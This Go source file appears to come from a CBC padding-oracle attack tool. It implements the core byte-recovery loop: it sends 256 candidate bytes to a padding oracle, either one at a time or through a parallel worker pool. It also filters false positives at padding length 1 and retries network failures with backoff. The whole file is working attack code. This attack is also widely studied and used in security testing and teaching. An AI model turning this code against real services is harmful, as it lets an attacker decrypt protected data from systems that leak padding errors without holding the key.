package attack

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"time"

	"github.com/mario-areias/cbc-oracle/oracle"
)

// recoverByte finds the candidate that makes the target decrypt with padding of length
// PadLength. The caller resolves the state with it.
func (a *Attacker) recoverByte(ctx context.Context) (byte, error) {
	if a.cfg.Workers > 1 {
		return a.searchParallel(ctx)
	}
	return a.searchSequential(ctx)
}

// searchSequential tries 0x00..0xff in order, writing each candidate straight into the
// working block.
func (a *Attacker) searchSequential(ctx context.Context) (byte, error) {
	s := a.state
	pos := len(s.Working) - s.PadLength

	for g := 0; g <= 0xff; g++ {
		s.Working[pos] = byte(g)
		ok, err := a.probe(ctx, s.Working)
		if err != nil {
			return 0, err
		}
		if ok {
			return byte(g), nil
		}
	}

	return 0, a.inconsistency()
}

type candidateResult struct {
	g   byte
	err error
}

// searchParallel hands the candidates to a pool of workers, each probing its own copy of
// the working block. The first confirmed hit cancels the rest; answers that arrive
// after that are dropped.
func (a *Attacker) searchParallel(parent context.Context) (byte, error) {
	ctx, cancel := context.WithCancel(parent)
	defer cancel()

	pos := len(a.state.Working) - a.state.PadLength

	candidates := make(chan byte, 256)
	for g := 0; g <= 0xff; g++ {
		candidates <- byte(g)
	}
	close(candidates)

	// every worker sends at most once
	results := make(chan candidateResult, a.cfg.Workers)
	var wg sync.WaitGroup
	for i := 0; i < a.cfg.Workers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			working := a.state.Working.clone()
			for g := range candidates {
				if ctx.Err() != nil {
					return
				}
				working[pos] = g
				ok, err := a.probe(ctx, working)
				if err != nil {
					results <- candidateResult{err: err}
					cancel()
					return
				}
				if ok {
					results <- candidateResult{g: g}
					cancel()
					return
				}
			}
		}()
	}
	wg.Wait()
	close(results)

	var (
		found    bool
		best     byte
		firstErr error
	)
	for r := range results {
		switch {
		case r.err != nil:
			if firstErr == nil || errors.Is(firstErr, context.Canceled) {
				firstErr = r.err
			}
		case !found || r.g < best:
			found, best = true, r.g
		}
	}

	if found {
		return best, nil
	}
	if err := parent.Err(); err != nil {
		return 0, err
	}
	if firstErr != nil {
		return 0, firstErr
	}
	return 0, a.inconsistency()
}

// probe asks the oracle about working. For padding length 1 a hit may come from the
// real plaintext already ending in longer valid padding (02 02, 03 03 03, ...), so the
// hit only counts if it survives changing the byte before the last one.
func (a *Attacker) probe(ctx context.Context, working Block) (bool, error) {
	ok, err := a.query(ctx, working)
	if err != nil || !ok {
		return false, err
	}

	bs := len(working)
	if a.state.PadLength != 1 || bs < 2 {
		return true, nil
	}

	working[bs-2] ^= 0x01
	ok, err = a.query(ctx, working)
	working[bs-2] ^= 0x01
	if err != nil {
		return false, err
	}
	if !ok && a.cfg.Verbose {
		a.log.Printf("block %d: candidate 0x%02x is a false positive", a.index, working[bs-1])
	}
	return ok, nil
}

// query performs one padding check, retrying transport failures per the retry policy.
func (a *Attacker) query(ctx context.Context, prev Block) (bool, error) {
	attempts := a.cfg.Retry.MaxAttempts
	if attempts < 1 {
		attempts = 1
	}

	var err error
	for attempt := 1; ; attempt++ {
		a.queries.Add(1)

		var ok bool
		ok, err = a.oracle.IsPaddingValid(ctx, prev, a.target)
		if err == nil {
			return ok, nil
		}
		if !errors.Is(err, oracle.ErrUnreachable) || attempt >= attempts {
			break
		}

		if a.cfg.Retry.Backoff != nil {
			if wait := a.cfg.Retry.Backoff(attempt); wait > 0 {
				t := time.NewTimer(wait)
				select {
				case <-ctx.Done():
					t.Stop()
					return false, ctx.Err()
				case <-t.C:
				}
			}
		}
	}

	return false, fmt.Errorf("block %d, padding length %d: %w", a.index, a.state.PadLength, err)
}

func (a *Attacker) inconsistency() error {
	return &InconsistencyError{
		Block:        a.index,
		PadLength:    a.state.PadLength,
		Intermediate: a.state.Intermediate.clone(),
		Resolved:     a.state.Resolved(),
	}
}
